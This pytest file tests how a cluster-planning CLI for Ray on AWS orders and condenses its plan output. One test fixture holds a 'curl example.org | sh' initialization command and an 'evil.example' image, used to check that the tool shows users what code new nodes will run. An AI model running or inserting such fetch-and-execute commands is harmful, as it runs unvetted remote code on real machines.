"""What a plan shows, in which order, and in how much detail."""
import re

from program import spec
from shared import home, sim  # noqa: F401


def places(text, *parts):
    found = [text.index(part) for part in parts]
    assert found == sorted(found), text
    return found


def test_pools_and_cost_come_first_and_the_summary_last(home):
    home.write('cluster.yaml', spec(pools={'serve': 2, 'batch': 1}))
    text = home.run('plan').out
    places(text, '  POOL   TYPE ', '  head   m5.2xlarge   on-demand  0 -> 1 ', '\nCost: $0.00 -> ', '\nGPUs that Ray will see: ',
           '\nraygpu will perform the following actions:\n', '\n  # aws.instance.batch[0] will be created\n', '\nPlan: ')
    assert text.startswith('  POOL') and text.endswith(' to add, 0 to change, 0 to destroy.\n')


def test_whose_code_new_nodes_run_is_shown(home):
    """Their attributes have only a compressed text of it."""
    home.write('cluster.yaml', spec(pools={'serve': 1, 'batch': 1}, extra='setup_commands: [first, second]\n').replace(
        'batch: {', 'batch: {env: {A: b}, initialization_commands: [curl example.org | sh], '
        'mounts: [{type: nfs4, source: "a.example.org:/", path: /mnt/a}], ').replace('rayproject/ray:', 'evil.example/ray:'))
    image = 'ray.image evil.example/ray:2.56.1-py311-cu121'
    common = f'New nodes of head, serve: {image}, setup_commands: 2'
    own = f'New nodes of batch: {image}, initialization_commands: 1, setup_commands: 2, mounts: 1, env: 1'
    plan = home.run('plan', '--report', f'markdown={home.path("report.md")}', '--out', 'p.json').out
    for text in (plan, home.run('show', 'p.json').out):
        assert common in ' '.join(text.split()) and own in ' '.join(text.split()), text
    before, fold = home.read('report.md').replace('\\_', '_').split('<details>', 1)
    assert common in before and own in before and 'curl' not in before + fold
    assert 'New nodes of' not in home.run('plan', '--summary').out
    home.apply('cluster.yaml', '--no-wait')
    assert 'New nodes of' not in home.run('plan', '--verbose').out
    home.write('cluster.yaml', home.read('cluster.yaml').replace('"T4:1", nodes: 1', '"T4:1", nodes: 2', 1))
    assert f'New nodes of serve: {image}, setup_commands: 2' in ' '.join(home.run('plan').out.split())


def test_what_resources_have_alike_is_shown_once(home):
    home.write('cluster.yaml', spec(pools={'serve': 2, 'batch': 1}))
    text = home.run('plan').out
    common = text[text.index('  # all new aws.instance have in common:\n'):].split('\n\n')[0]
    assert '+ availability_zone = "us-east-1a"\n' in common and '{team = "ml"}' in common
    assert text.count('availability_zone') == 1
    assert re.search(r'      \+ tags +=\s.*\{Name = "[a-z]+-serve"\}\n', text)
    for constant in ('http_tokens', 'disk_encrypted', 'instance_state', 'root_device'):
        assert constant not in text
    assert text.count(' attributes hidden)\n') == 3  # head, serve and batch
    verbose = home.run('plan', '--verbose').out
    assert 'have in common' not in verbose and 'hidden)' not in verbose
    assert verbose.count('availability_zone') == verbose.count('http_tokens') == 3
    assert '\nAbout ' in verbose and '\nAbout ' not in text


def test_a_saved_plan_is_shown_alike(home):
    home.write('cluster.yaml', spec(pools={'serve': 2, 'batch': 1}))
    home.run('plan', '--out', 'p.json')
    for more in ((), ('--verbose',), ('--summary',)):
        assert home.run('show', 'p.json', *more).out == home.run('plan', *more).out


def test_summary_leaves_the_resources_out(home):
    home.write('cluster.yaml', spec(pools={'serve': 2}))
    text = home.run('plan', '--summary').out
    assert 'resource "' not in text and 'will be created' not in text
    assert 'POOL' in text and '\nPlan: 6 to add' in text
    assert '--summary and --verbose' in home.run('plan', '--summary', '--verbose', code=4).err


def test_without_changes_it_is_one_line(home):
    home.write('cluster.yaml', spec(pools={'serve': 2}))
    home.apply()
    done = home.run('plan', '--detailed-exitcode')
    assert done.out == 'No changes. Your infrastructure matches the configuration.\n' and not done.err
    assert 'POOL' in home.run('plan', '--verbose').out
